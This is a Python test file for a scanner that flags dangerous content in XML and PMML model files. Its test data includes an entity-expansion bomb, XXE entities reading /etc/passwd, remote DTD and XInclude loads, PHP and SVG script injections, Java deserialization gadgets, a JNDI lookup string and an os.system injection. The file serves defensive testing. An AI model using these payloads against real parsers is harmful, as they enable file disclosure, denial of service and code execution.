"""XML and PMML: nothing is resolved, and what would be is flagged."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keepstone.core.finding import Outcome
from keepstone.scan.formats import identify
from tests.scan.judging import judged, outcome_of, reasons_of, rules_of

PMML = """<?xml version="1.0" encoding="UTF-8"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"
    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
    xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://www.dmg.org/pmml/v4-4/pmml-4-4.xsd">
  <Header><Extension name="user" value="ann" extender="SkLearn2PMML"/>
    <Application name="JPMML-SkLearn" version="1.8.7"/></Header>
  <DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
  <TransformationDictionary>
    <DefineFunction name="twice" optype="continuous">
      <ParameterField name="v"/><Apply function="*"><FieldRef field="v"/><Constant>2</Constant>
      </Apply></DefineFunction>
    <DerivedField name="y" optype="continuous" dataType="double">
      <Apply function="twice"><FieldRef field="x"/></Apply></DerivedField>
  </TransformationDictionary>
  <RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema>
    <RegressionTable intercept="1"><NumericPredictor name="x" coefficient="2"/></RegressionTable>
  </RegressionModel>
</PMML>
"""
BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>
<lolz>&b;</lolz>"""


def test_an_honest_model_is_clean() -> None:
    assert identify(memoryview(PMML.encode())) == "xml"
    assert judged(PMML.encode()) == []
    assert judged(PMML.replace("UTF-8", "UTF-16").encode("utf-16")) == []
    assert judged(PMML[PMML.index("<PMML") :].encode()) == []


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (BOMB, "xml.entity"),
        ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "xml.entity"),
        ('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://h/x.dtd"> %p;]><a/>', "xml.entity"),
        ('<!DOCTYPE a SYSTEM "http://host/a.dtd"><a/>', "xml.external"),
        ("<!DOCTYPE a [<!ELEMENT a ANY>]><a/>", "xml.external"),
        (
            '<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="/etc/passwd"/></a>',
            "xml.external",
        ),
        ('<?xml-stylesheet href="http://h/x.xsl" type="text/xsl"?><a/>', "xml.external"),
        (
            '<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
            "xml.program",
        ),
        ("<?php system('id'); ?><a/>", "xml.program"),
        ("<svg><script>alert(1)</script></svg>", "xml.program"),
        ('<svg><rect onload="fetch(1)"/></svg>', "xml.program"),
        (
            '<java version="1" class="java.beans.XMLDecoder">'
            '<object class="java.lang.ProcessBuilder"/></java>',
            "xml.host_code",
        ),
        (
            '<beans><bean class="org.springframework.context.support.X" init-method="start"/>'
            "</beans>",
            "xml.host_code",
        ),
        ("<java.util.PriorityQueue><dynamic-proxy/></java.util.PriorityQueue>", "xml.host_code"),
        ("<a>${jndi:ldap://host/x}</a>", "xml.host_code"),
        ('<a value="__import__(1)"/>', "xml.host_code"),
    ],
)
def test_what_a_reader_would_resolve_or_run_is_flagged(text: str, rule: str) -> None:
    assert rule in rules_of(text.encode())
    assert outcome_of(text.encode()) is Outcome.FLAGGED


@pytest.mark.parametrize(
    ("old", "new", "rule"),
    [
        ('function="*"', 'function="com.example.Evil"', "pmml.function"),
        ('function="*"', 'function="java.lang.Runtime"', "pmml.function"),
        ('function="*"', 'function="mystery"', "pmml.unknown"),
        ('value="ann"', 'value="com.example.hooks.Loader"', "pmml.unknown"),
        ('value="ann"', "value=\"__import__('os').system('id')\"", "pmml.function"),
        ("<MiningSchema>", '<MiningSchema x-modelClass="a.b.C">', "pmml.function"),
        ("<Header>", "<Header><TableLocator/>", "pmml.unknown"),
    ],
)
def test_what_an_evaluator_would_load_is_not_clean(old: str, new: str, rule: str) -> None:
    assert old in PMML
    assert rule in rules_of(PMML.replace(old, new, 1).encode())


def test_another_vocabulary_is_not_evaluated() -> None:
    assert rules_of(b"<shopping><item/></shopping>") == {"xml.vocabulary"}
    assert judged(b"<annotation><object><name>cat</name></object></annotation>") == []


def test_what_is_broken_is_not_evaluated() -> None:
    assert outcome_of(PMML[:-20].encode()) is Outcome.NOT_EVALUATED
    assert outcome_of(b"<?xml version='1.0'?>") is Outcome.NOT_EVALUATED
    assert outcome_of(b"<?xml version='1.0' encoding='x-y'?><a/>") is Outcome.NOT_EVALUATED


def test_an_entity_behind_a_break_is_flagged() -> None:
    assert outcome_of(b"<a><b></a>" + BOMB.encode()) is Outcome.FLAGGED


def test_depth_and_size_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "limit" in reasons_of(b"<a>" * 600 + b"</a>" * 600)
    monkeypatch.setattr("keepstone.scan.markup.reader.MAX_ELEMENTS", 5)
    assert "limit" in reasons_of(PMML.encode())
    monkeypatch.setattr("keepstone.scan.markup.xml.MAX_XML", 5)
    assert "limit" in reasons_of(PMML.encode())


def test_nothing_is_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[str] = []
    secret = tmp_path / "secret"
    secret.write_text("secret")
    monkeypatch.setattr("builtins.open", lambda *a, **k: opened.append(str(a)))
    text = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]><a>&x;</a>'
    assert outcome_of(text.encode()) is Outcome.FLAGGED
    assert not opened


@given(st.text(max_size=200))
def test_any_text_is_read_without_failing(text: str) -> None:
    assert "failed" not in reasons_of(f"<a>{text}".encode("utf-8", "replace"))


@given(st.integers(0, len(BOMB) - 1), st.characters(codec="ascii", exclude_characters="\x00"))
def test_a_changed_letter_never_makes_a_bomb_clean(at: int, letter: str) -> None:
    text = BOMB[:at] + letter + BOMB[at + 1 :]
    if "<!ENTITY a" in text and "<!ENTITY b" in text:
        assert outcome_of(text.encode()) is not Outcome.CLEAN
